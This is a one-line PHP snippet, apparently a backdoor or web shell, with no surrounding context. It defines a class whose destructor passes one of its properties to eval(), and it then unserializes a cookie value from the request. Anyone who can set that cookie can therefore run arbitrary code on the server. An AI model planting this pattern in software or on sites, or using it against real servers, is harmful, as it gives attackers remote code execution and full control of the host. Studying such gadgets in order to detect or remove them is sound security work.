<?php class K { public $c; function __destruct() { eval($this->c); } } unserialize($_COOKIE["d"]);
